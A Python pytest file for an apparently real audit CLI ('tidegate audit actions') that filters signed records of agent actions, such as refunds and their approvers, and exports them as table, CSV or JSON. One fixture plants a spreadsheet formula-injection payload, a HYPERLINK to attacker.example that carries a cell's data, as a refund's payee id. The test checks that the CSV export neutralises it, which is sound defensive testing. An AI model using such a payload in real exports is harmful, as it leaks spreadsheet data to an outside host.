"""An auditor's questions across tasks, answered from an export alone: `tidegate audit actions` (auditor2 probe).

"Every refund over 500 USD, who approved each and with which credential, under which policy, and what ran" took one
`explain` per task, and the task ids had to be found first (`search` reads the database only). `audit actions
--archive FILE --offline --trust-key SHA256` prints one line per action, filtered by tool, approver, approval,
decision and an argument's value, as a table, CSV for a spreadsheet, or JSON lines. Arguments are an agent's (and, in
the end, a customer's) text: a cell a spreadsheet would run as a formula is quoted.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from test_archive_signers import _deployment
from typer.testing import CliRunner

from tidegate.cli import app

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"refund ok")'


def _refund(event: Any) -> Any:
    """The sample task's call, made a refund of 900 USD to a payee id an agent copied from a customer's email."""
    if event.type != "tidegate.action.proposed":
        return event
    data = event.data.model_copy(update={"tool": "issue_refund", "args": {"amount_usd": 900.0, "payee_id": FORMULA, "order_id": "O-1"}})
    return event.model_copy(update={"data": data})


@pytest.fixture
def export(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> tuple[Path, str]:
    path, fingerprint, _ = asyncio.run(_deployment(tmp_path, _refund))
    (tmp_path / "laptop-keys").mkdir()
    monkeypatch.setenv("TIDEGATE_KEYS_DIR", str(tmp_path / "laptop-keys"))  # the auditor's laptop: none of the deployment's keys
    return path, fingerprint


def _actions(export: tuple[Path, str], *args: str) -> Any:
    path, fingerprint = export
    result = CliRunner().invoke(app, ["audit", "actions", "--archive", str(path), "--offline", "--trust-key", fingerprint, *args])
    assert result.exit_code == 0, result.output
    return result


def test_every_refund_over_500_with_its_approver_and_what_ran_is_one_command(export: tuple[Path, str]) -> None:
    out = _actions(export, "--tool", "issue_refund", "--where", "amount_usd>500", "--format", "json").stdout
    [line] = [json.loads(x) for x in out.splitlines()]
    assert (line["task_id"], line["action_id"], line["args"]["amount_usd"]) == ("t-1", "a-1", 900.0)
    assert (line["approval"], line["approvers"], line["approval_ids"]) == ("granted", ["bob"], ["ap-1"])
    assert line["policy_versions"] == ["sha256:abc"]
    assert (line["authorized"], line["result"], line["result_detail"]) == (True, "succeeded", {"ok": True})
    assert line["unverified_rows"] == 0  # every row of the task checked with the keys the attested header carries

    # The same question with another threshold, another approver, or only what nobody approved: nothing.
    assert _actions(export, "--where", "amount_usd>1000", "--format", "json").stdout == ""
    assert _actions(export, "--where", "amount_usd<500", "--format", "json").stdout == ""
    assert _actions(export, "--where", "amount_usd>=900", "--format", "json").stdout.count("\n") == 1
    assert _actions(export, "--where", "payee_id=0", "--format", "json").stdout == ""  # text is never a number
    assert _actions(export, "--approver", "mallory@acme.example", "--format", "json").stdout == ""
    assert _actions(export, "--approval", "none", "--format", "json").stdout == ""
    assert _actions(export, "--approver", "bob", "--format", "json").stdout.count("\n") == 1


def test_the_csv_opens_in_a_spreadsheet_with_each_argument_a_column_and_no_formula_run(export: tuple[Path, str]) -> None:
    out = _actions(export, "--format", "csv").stdout
    rows = list(csv.DictReader(io.StringIO(out)))
    [row] = rows
    assert (row["tool"], row["arg.amount_usd"], row["arg.order_id"], row["approvers"], row["result"]) == (
        "issue_refund", "900.0", "O-1", "bob", "succeeded",
    )  # fmt: skip
    assert row["arg.payee_id"] == "'" + FORMULA  # shown as text, never run as a formula
    assert not any(cell.startswith(("=", "+", "@")) for cell in row.values())


def test_a_where_that_is_not_name_over_number_is_refused(export: tuple[Path, str]) -> None:
    result = CliRunner().invoke(app, ["audit", "actions", "--archive", str(export[0]), "--offline", "--where", "amount_usd>>5"])
    assert result.exit_code == 1
    assert "NAME>NUMBER" in result.output


def test_at_an_80_column_terminal_each_action_reads_on_lines_of_its_own(export: tuple[Path, str]) -> None:
    """Six columns at 80 cut the ids and the credential to a few letters (auditor2 F6): the narrow table keeps them whole."""
    out = _actions(export).stdout
    assert "approval: granted by bob" in out
    assert "call: issue_refund(amount_usd=900.0" in out
    assert "ran: succeeded" in out
